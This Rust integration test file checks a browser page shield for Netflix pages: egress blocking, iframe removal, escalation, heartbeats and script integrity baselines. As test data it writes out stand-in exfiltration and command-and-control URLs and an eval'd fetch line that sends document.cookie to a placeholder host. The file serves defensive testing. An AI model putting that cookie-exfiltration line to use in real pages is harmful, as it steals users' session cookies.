//! Page shield integration tests
//!
//! End-to-end tests exercising one installed page: egress enforcement,
//! observe-only guards, frame removal, escalation, heartbeat snapshots, and
//! the integrity baseline lifecycle over a file-backed store.

use a3s_guard::guards::dom::mutation_channel;
use a3s_guard::guards::{
    AddedNode, CodeEvaluator, ConnectionOpener, CookieJar, DocumentTree, MutationBatch, NodeId,
    OutboundRequest, PageStorage, RequestIssuer, SocketConnector,
};
use a3s_guard::heartbeat::beat;
use a3s_guard::{
    ActivityCategory, DurableStore, FileDurableStore, FileResourceFetcher, GuardConfig,
    GuardError, GuardKind, IntegrityReason, MemoryDurableStore, PageShield, StatusLevel,
};
use async_trait::async_trait;
use std::collections::{BTreeSet, HashMap};
use std::sync::Arc;
use std::time::Duration;
use tokio_test::{assert_err, assert_ok};

const PAGE: &str = "https://www.netflix.com/watch/80100172";

fn shield() -> PageShield {
    PageShield::install(
        GuardConfig::default(),
        PAGE,
        Arc::new(MemoryDurableStore::default()),
    )
    .unwrap()
}

// ─── Capability fakes ────────────────────────────────────────────

struct OkIssuer;

#[async_trait]
impl RequestIssuer for OkIssuer {
    type Response = String;

    async fn issue(&self, request: OutboundRequest) -> a3s_guard::Result<String> {
        Ok(request.url)
    }
}

struct OkOpener;

impl ConnectionOpener for OkOpener {
    type Connection = ();

    fn open(&self, _method: &str, _url: &str) -> a3s_guard::Result<()> {
        Ok(())
    }
}

struct OkSocket;

impl SocketConnector for OkSocket {
    type Socket = ();

    fn connect(&self, _url: &str, _protocols: &[String]) -> a3s_guard::Result<()> {
        Ok(())
    }
}

#[derive(Default)]
struct MapStorage(HashMap<String, String>);

impl PageStorage for MapStorage {
    fn get_item(&self, key: &str) -> a3s_guard::Result<Option<String>> {
        Ok(self.0.get(key).cloned())
    }

    fn set_item(&mut self, key: &str, value: &str) -> a3s_guard::Result<()> {
        self.0.insert(key.to_string(), value.to_string());
        Ok(())
    }

    fn remove_item(&mut self, key: &str) -> a3s_guard::Result<()> {
        self.0.remove(key);
        Ok(())
    }
}

#[derive(Default)]
struct StringJar(String);

impl CookieJar for StringJar {
    fn cookie(&self) -> a3s_guard::Result<String> {
        Ok(self.0.clone())
    }

    fn set_cookie(&mut self, value: &str) -> a3s_guard::Result<()> {
        self.0 = value.to_string();
        Ok(())
    }
}

struct NoopEval;

impl CodeEvaluator for NoopEval {
    type Value = ();

    fn eval(&mut self, _code: &str) -> a3s_guard::Result<()> {
        Ok(())
    }
}

#[derive(Default)]
struct Document(BTreeSet<NodeId>);

impl DocumentTree for Document {
    fn remove_node(&mut self, id: NodeId) -> a3s_guard::Result<()> {
        self.0.remove(&id);
        Ok(())
    }
}

// ─── Egress ──────────────────────────────────────────────────────

#[tokio::test]
async fn test_denied_targets_count_once_per_call() {
    let shield = shield();
    let requests = shield.guard_requests(OkIssuer);
    let connections = shield.guard_connections(OkOpener);
    let sockets = shield.guard_sockets(OkSocket);

    let err = requests
        .issue(OutboundRequest::get("https://exfil.example.org/collect"))
        .await
        .unwrap_err();
    assert!(err.is_policy_violation());
    assert_eq!(shield.ledger().count_for(ActivityCategory::Network), 1);

    assert_err!(connections.open("POST", "http://198.51.100.7/beacon"));
    assert_eq!(shield.ledger().count_for(ActivityCategory::Network), 2);

    assert_err!(sockets.connect("wss://c2.example.net/ws", &[]));
    assert_eq!(shield.ledger().count_for(ActivityCategory::Network), 3);
}

#[tokio::test]
async fn test_allowed_targets_delegate_without_counting() {
    let shield = shield();
    let requests = shield.guard_requests(OkIssuer);
    let connections = shield.guard_connections(OkOpener);

    for url in [
        "https://www.netflix.com/api/shakti",
        "/nq/website/memberapi",
        "https://occ-0-1.nflxso.net/art/1.jpg",
        "https://IPV4-C001.NFLXVIDEO.NET./range/0-100",
        "chrome-extension://abcdef/scripts/cadmium-playercore.js",
    ] {
        assert!(requests.issue(OutboundRequest::get(url)).await.is_ok(), "{url}");
    }
    assert_ok!(connections.open("GET", "https://assets.nflxext.com/a.js"));
    assert_eq!(shield.suspicious_activity_count(), 0);
}

// ─── Observe-only guards ─────────────────────────────────────────

#[tokio::test]
async fn test_observe_only_guards_never_block() {
    let shield = shield();
    let mut storage = shield.guard_storage(MapStorage::default());
    let mut cookies = shield.guard_cookies(StringJar::default());
    let mut eval = shield.guard_eval(NoopEval);

    for i in 0..101 {
        assert_ok!(storage.set_item("bookmark", &i.to_string()));
    }
    assert_eq!(shield.ledger().count_for(ActivityCategory::Storage), 1);
    assert_eq!(storage.get_item("bookmark").unwrap().as_deref(), Some("100"));

    cookies.set_cookie("uid=1; domain=.tracker.example").unwrap();
    assert_eq!(cookies.cookie().unwrap(), "uid=1; domain=.tracker.example");
    assert_eq!(shield.ledger().count_for(ActivityCategory::Cookie), 1);

    eval.eval("fetch('https://x.example/?c=' + document.cookie)").unwrap();
    assert_eq!(shield.ledger().count_for(ActivityCategory::Eval), 1);

    assert_eq!(shield.suspicious_activity_count(), 3);
}

// ─── DOM ─────────────────────────────────────────────────────────

#[tokio::test]
async fn test_foreign_iframe_removed_via_mutation_stream() {
    let shield = shield();
    let dom = shield.dom_guard();
    let mut document = Document(BTreeSet::from([1, 2, 3]));
    let (tx, stream) = mutation_channel();

    tx.send(MutationBatch::new(vec![
        AddedNode::iframe(1, "https://www.netflix.com/embed/1"),
        AddedNode::iframe(2, "https://clickjack.example/"),
        AddedNode::element(3, "SCRIPT"),
    ]))
    .unwrap();
    drop(tx);

    assert_eq!(dom.watch(stream, &mut document).await, 1);
    assert_eq!(document.0, BTreeSet::from([1, 3]));
    assert_eq!(shield.ledger().count_for(ActivityCategory::Iframe), 1);
}

// ─── Escalation & status ─────────────────────────────────────────

#[tokio::test]
async fn test_escalation_visible_in_status_report() {
    let shield = shield();
    let requests = shield.guard_requests(OkIssuer);

    for i in 0..11 {
        let url = format!("https://host{}.example/", i);
        let _ = requests.issue(OutboundRequest::get(url)).await;
    }

    let report = shield.security_status().await.unwrap();
    assert!(report.monitoring);
    assert_eq!(report.suspicious_activities, 11);
    let warning = report.last_warning.unwrap();
    assert_eq!(warning.count, 11);
    assert_eq!(shield.ledger().status(), StatusLevel::Warning);
}

#[tokio::test(start_paused = true)]
async fn test_heartbeat_publishes_snapshot() {
    let shield = shield();
    let heartbeat = shield.start_heartbeat();
    let sockets = shield.guard_sockets(OkSocket);

    assert!(sockets.connect("wss://c2.example.net/", &[]).is_err());
    tokio::time::sleep(Duration::from_secs(61)).await;

    let report = shield.security_status().await.unwrap();
    let status = report.last_status.unwrap();
    assert_eq!(status.suspicious_activities, 1);
    assert_eq!(status.status, StatusLevel::Monitoring);

    heartbeat.stop().await;
}

#[tokio::test]
async fn test_transient_guards_not_reported_as_missing() {
    let shield = shield();
    let _requests = shield.guard_requests(OkIssuer);
    for _ in 0..1000 {
        drop(shield.dom_guard());
    }

    let registry = shield.context().registry();
    for _ in 0..2 {
        let report = beat(shield.ledger(), registry, shield.bridge());
        assert!(report.missing_guards.is_empty());
    }
    assert_eq!(registry.installed(), vec![GuardKind::Request]);
}

// ─── Install ─────────────────────────────────────────────────────

#[tokio::test]
async fn test_install_refuses_other_sites() {
    let result = PageShield::install(
        GuardConfig::default(),
        "https://www.example.com/",
        Arc::new(MemoryDurableStore::default()),
    );
    assert!(matches!(result, Err(GuardError::UnsupportedPage(_))));
}

#[tokio::test]
async fn test_install_with_toml_config() {
    let config = GuardConfig::from_toml_str(
        r#"
        protected_site = "example.com"
        allowed_domains = ["example.com", "cdn.example.net"]
        "#,
    )
    .unwrap();
    let shield = PageShield::install(
        config,
        "https://app.example.com/",
        Arc::new(MemoryDurableStore::default()),
    )
    .unwrap();

    assert!(shield.context().decide("https://img.cdn.example.net/a.png").is_allowed());
    assert!(!shield.context().decide("https://www.netflix.com/").is_allowed());
}

// ─── Integrity ───────────────────────────────────────────────────

fn write_bundle(root: &std::path::Path, body: &str) {
    let scripts = root.join("scripts");
    std::fs::create_dir_all(&scripts).unwrap();
    std::fs::write(scripts.join("cadmium-playercore.js"), body).unwrap();
}

#[tokio::test]
async fn test_integrity_lifecycle_over_file_store() {
    let bundle = tempfile::tempdir().unwrap();
    let state = tempfile::tempdir().unwrap();
    let store_path = state.path().join("storage.json");
    write_bundle(bundle.path(), "// FlixPlus player\nplay();\n");

    let store: Arc<dyn DurableStore> = Arc::new(FileDurableStore::new(&store_path));
    let mut shield = PageShield::install(GuardConfig::default(), PAGE, store).unwrap();
    let fetcher = Arc::new(FileResourceFetcher::new(bundle.path(), shield.config()));
    shield.attach_integrity("abcdef", fetcher, None);

    let first = shield.run_integrity_load_check().await.unwrap();
    assert!(first.result.verified);
    assert_eq!(first.result.reason, IntegrityReason::FirstLoad);
    let metadata = first.metadata.unwrap();
    assert!(metadata.contains_expected_marker);
    assert_eq!(metadata.line_count, 3);

    let second = shield.verify_integrity().await.unwrap();
    assert_eq!(second.reason, IntegrityReason::HashMatch);

    write_bundle(bundle.path(), "// FlixPlus player\nplay(); steal();\n");
    let tampered = shield.verify_integrity().await.unwrap();
    assert!(!tampered.verified);
    assert_eq!(tampered.reason, IntegrityReason::HashMismatch);

    let warning = shield.bridge().integrity_warning().await.unwrap().unwrap();
    assert_eq!(Some(&warning.expected_digest_hex), first.result.digest_hex.as_ref());
    assert_eq!(Some(&warning.actual_digest_hex), tampered.digest_hex.as_ref());

    shield.reset_integrity_baseline().unwrap();
    let rebaselined = shield.verify_integrity().await.unwrap();
    assert_eq!(rebaselined.reason, IntegrityReason::FirstLoad);

    // the baseline survives into the next page load
    shield.bridge().flush().await.unwrap();
    drop(shield);
    let store: Arc<dyn DurableStore> = Arc::new(FileDurableStore::new(&store_path));
    let mut next = PageShield::install(GuardConfig::default(), PAGE, store).unwrap();
    let fetcher = Arc::new(FileResourceFetcher::new(bundle.path(), next.config()));
    next.attach_integrity("abcdef", fetcher, None);
    assert_eq!(
        next.verify_integrity().await.unwrap().reason,
        IntegrityReason::HashMatch
    );
}

#[tokio::test]
async fn test_missing_resource_is_calculation_failure() {
    let bundle = tempfile::tempdir().unwrap();
    let mut shield = shield();
    let fetcher = Arc::new(FileResourceFetcher::new(bundle.path(), shield.config()));
    shield.attach_integrity("abcdef", fetcher, None);

    let result = shield.verify_integrity().await.unwrap();
    assert!(!result.verified);
    assert_eq!(result.reason, IntegrityReason::HashCalculationFailed);
    assert!(shield.integrity_metadata().await.is_err());
}

#[tokio::test(start_paused = true)]
async fn test_inject_runs_load_check_and_starts_heartbeat() {
    let bundle = tempfile::tempdir().unwrap();
    write_bundle(bundle.path(), "videoElementNetflixPlus();\n");
    let fetcher = Arc::new(FileResourceFetcher::new(
        bundle.path(),
        &GuardConfig::default(),
    ));

    let (shield, heartbeat, load_check) = PageShield::inject(
        GuardConfig::default(),
        PAGE,
        Arc::new(MemoryDurableStore::default()),
        "abcdef",
        fetcher,
        None,
    )
    .await
    .unwrap();

    assert_eq!(load_check.result.reason, IntegrityReason::FirstLoad);
    assert_eq!(
        shield.bridge().last_integrity_check().await.unwrap(),
        Some(load_check.clone())
    );
    assert!(shield.integrity().is_some());
    assert!(heartbeat.is_running());

    let sockets = shield.guard_sockets(OkSocket);
    assert_err!(sockets.connect("wss://c2.example.net/", &[]));
    tokio::time::sleep(Duration::from_secs(61)).await;

    let status = shield.security_status().await.unwrap().last_status.unwrap();
    assert_eq!(status.suspicious_activities, 1);
    heartbeat.stop().await;
}

#[tokio::test]
async fn test_inject_refuses_other_sites() {
    let bundle = tempfile::tempdir().unwrap();
    let fetcher = Arc::new(FileResourceFetcher::new(
        bundle.path(),
        &GuardConfig::default(),
    ));
    let result = PageShield::inject(
        GuardConfig::default(),
        "https://www.example.com/",
        Arc::new(MemoryDurableStore::default()),
        "abcdef",
        fetcher,
        None,
    )
    .await;
    assert!(matches!(result, Err(GuardError::UnsupportedPage(_))));
}
